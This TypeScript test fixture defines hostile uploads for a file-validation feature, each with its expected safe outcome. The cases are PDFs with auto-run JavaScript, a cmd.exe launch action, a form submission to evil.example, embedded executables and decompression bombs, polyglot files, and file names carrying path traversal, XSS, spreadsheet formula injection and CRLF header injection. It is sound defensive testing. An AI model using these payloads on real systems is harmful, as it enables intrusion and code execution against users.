import { certificatePdf } from "#tests/factories/document-files.ts"
import { ascii, folded, jpegOf, pdfWith, script, zipOf } from "./file-makers.ts"
import type { HostileFile } from "./hostile-file.ts"

const megabytes = 1024 * 1024
const pdf = { kept: "application/pdf" } as const
const action = (what: string) =>
  pdfWith({ catalogue: "/OpenAction 5 0 R", objects: `5 0 obj<</Type/Action${what}>>endobj` })
const bomb = () => {
  const data = folded(300_000_000)
  const head = `5 0 obj<</Length ${data.length}/Filter/FlateDecode>>stream\n`
  return Buffer.concat([
    pdfWith().subarray(0, 9),
    ascii(head),
    data,
    ascii("\nendstream endobj\n"),
    pdfWith().subarray(9),
  ])
}

const tableBomb = () => {
  const data = folded(300_000_000)
  const head = `5 0 obj<</Type/XRef/W[1 2 1]/Size 70000000/Root 1 0 R/Length ${data.length}/Filter/FlateDecode>>stream\n`
  return Buffer.concat([ascii("%PDF-1.7\n"), ascii(head), data, ascii("\nendstream endobj\nstartxref\n9\n%%EOF\n")])
}
const pagesOf = (kids: string) =>
  ascii(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids${kids}>>endobj
trailer<</Root 1 0 R/Size 3>>
%%EOF
`)

/** PDFs are opened in a process of their own, stored unchanged, and downloaded only. */
export const papers: HostileFile[] = [
  {
    what: "a PDF that runs a JavaScript when opened",
    bytes: () => action("/S/JavaScript/JS(app.alert(1))"),
    outcome: pdf,
  },
  { what: "a PDF that starts a program", bytes: () => action("/S/Launch/F(cmd.exe)"), outcome: pdf },
  { what: "a PDF that sends a form away", bytes: () => action("/S/SubmitForm/F(http://evil.example)"), outcome: pdf },
  { what: "a PDF that opens an address", bytes: () => action("/S/URI/URI(javascript:alert(1))"), outcome: pdf },
  {
    what: "a PDF with a program inside",
    bytes: () =>
      pdfWith({
        catalogue: "/Names<</EmbeddedFiles 5 0 R>>",
        objects: "5 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj",
      }),
    outcome: pdf,
  },
  {
    what: "a PDF under a password",
    bytes: () => pdfWith({ trailer: "/Encrypt<</Filter/Standard/V 5/R 6/Length 256>>" }),
    outcome: "locked",
  },
  { what: "a PDF that unfolds to 300 MB", bytes: bomb, outcome: pdf },
  { what: "a PDF whose table of contents unfolds to 300 MB", bytes: tableBomb, outcome: "damaged" },
  { what: "a PDF without a page", bytes: () => pagesOf("[]/Count 0"), outcome: "damaged" },
  { what: "a PDF whose pages hold themselves", bytes: () => pagesOf("[2 0 R]/Count 1"), outcome: "damaged" },
  { what: "a PDF that is only its first and last line", bytes: () => ascii("%PDF-1.7\n%%EOF\n"), outcome: "damaged" },
  {
    what: "a PDF that is a page too",
    bytes: () => pdfWith({ objects: `<!DOCTYPE html><html>${script}</html>` }),
    name: "page.html",
    type: "text/html",
    outcome: { ...pdf, name: "page.html.pdf" },
  },
  {
    what: "a PDF that is a ZIP too",
    bytes: () => Buffer.concat([pdfWith(), zipOf("a.jar", ascii(script))]),
    outcome: pdf,
  },
  {
    what: "a PDF behind half a page",
    bytes: () => pdfWith({ before: `<!DOCTYPE html>${script}` }),
    outcome: "wrongType",
  },
  { what: "a PDF behind a line break", bytes: () => pdfWith({ before: "\n" }), outcome: "wrongType" },
  { what: "a PDF behind a byte order mark", bytes: () => pdfWith({ before: "\xef\xbb\xbf" }), outcome: "damaged" },
  { what: "a PDF without its end", bytes: () => certificatePdf(4_000).subarray(0, 2_000), outcome: "damaged" },
  {
    what: "a PDF with a kilobyte and more behind its end",
    bytes: () => pdfWith({ after: "x".repeat(2_000) }),
    outcome: "damaged",
  },
  { what: "a PDF without a version", bytes: () => ascii("%PDF-x\n%%EOF\n"), outcome: "damaged" },
  { what: "a PDF for a photo", bytes: () => pdfWith(), kind: "photo", outcome: "wrongType" },
  {
    what: "a page called certificat.pdf",
    bytes: () => ascii(`<!DOCTYPE html>${script}`),
    name: "certificat.pdf",
    type: "application/pdf",
    outcome: "wrongType",
  },
  { what: "exactly 10 MB", bytes: () => certificatePdf(10 * megabytes), outcome: pdf },
  { what: "a byte more", bytes: () => certificatePdf(10 * megabytes + 1), outcome: "tooLarge" },
  { what: "twice as much", bytes: () => certificatePdf(20 * megabytes), outcome: "tooLarge" },
  {
    what: "a JPEG with 10 MB behind it",
    bytes: async () => Buffer.concat([await jpegOf(), Buffer.alloc(10 * megabytes)]),
    outcome: "tooLarge",
  },
]

const named = (what: string, name: string, kept: string, type = "image/jpeg"): HostileFile => ({
  what,
  bytes: () => jpegOf(),
  name,
  type,
  outcome: { kept: "image/jpeg", name: kept },
})

/** Harmless pictures with hostile names. */
export const names: HostileFile[] = [
  named("a way out of the folder", "../../../../etc/passwd", "passwd.jpg"),
  named("the same in Windows", "..\\..\\windows\\system32\\cmd.exe", "cmd.exe.jpg"),
  named("an encoded way out", "..%2f..%2fetc%2fpasswd", "..%2f..%2fetc%2fpasswd.jpg"),
  named("a picture that says it is a page", "page.html", "page.html.jpg", "text/html"),
  named("a name that reads backwards", "photo\u202Egpj.exe", "photo gpj.exe.jpg"),
  named("300 letters", `${"é".repeat(300)}.jpg`, `${"é".repeat(196)}.jpg`),
  named("a name that runs", `"><img src=x onerror=alert(1)>.jpg`, `"><img src=x onerror=alert(1)>.jpg`),
  named("a name that is a formula", "=cmd|' calc'!A0.jpg", "=cmd|' calc'!A0.jpg"),
  named("line breaks and a header", "a\r\nSet-Cookie: lac=1\r\n.jpg", "a Set-Cookie: lac=1.jpg"),
  named("a name with nothing before the point", ".htaccess", ".htaccess.jpg"),
  named("no name to speak of", "...", "....jpg"),
  named("a name of marks nobody sees", "\u200b\u200d\ufeff.jpg", "document.jpg"),
]
